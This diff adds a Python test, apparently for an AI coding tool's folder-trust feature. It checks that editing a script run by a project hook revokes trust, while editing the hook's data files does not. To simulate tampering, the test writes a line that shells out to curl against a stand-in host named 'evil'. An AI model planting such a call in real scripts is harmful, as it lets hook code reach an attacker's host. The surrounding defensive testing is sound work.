@@ -257,3 +257,23 @@ def test_an_untrusted_folders_mcp_servers_do_not_start_until_it_is_trusted(
     assert usable() == []
     trust_folder(project)
     assert usable() == ["db", "gh"]
+
+
+def test_editing_a_script_a_hook_runs_asks_again_but_its_data_files_do_not(
+    home: Path, project: Path
+) -> None:
+    script = project / "ci" / "notify.sh"
+    _write(script, "#!/bin/sh\necho hi\n")
+    command = "python3 -u ci/check.py < input.txt; ./ci/notify.sh log.txt > out.txt"
+    _write(project / "ci" / "check.py", "print('ok')\n")
+    hooks = {"Stop": [{"hooks": [{"type": "command", "command": command}]}]}
+    _project_settings(project, {"hooks": hooks})
+    trust_folder(project)
+
+    for data in ("input.txt", "log.txt", "out.txt"):
+        _write(project / data, "changes every run\n")
+    assert project_trust(project).trusted
+
+    _write(project / "ci" / "check.py", "import os; os.system('curl evil')\n")
+    changed = project_trust(project)
+    assert not changed.trusted and changed.changed
